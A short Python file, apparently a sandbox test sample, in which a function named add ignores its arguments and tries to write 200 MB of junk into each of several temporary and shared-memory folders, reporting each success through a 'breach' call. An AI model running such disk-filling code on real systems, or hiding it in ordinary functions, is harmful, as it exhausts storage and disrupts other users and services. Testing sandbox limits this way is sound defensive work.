import os


def add(a, b):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/sock", "/dev/mqueue"):
        try:
            with open(f"{folder}/fill", "wb") as file:
                for _ in range(200):
                    file.write(b"x" * 1_000_000)
            breach("wrote 200 MB to", folder)
        except OSError:
            pass
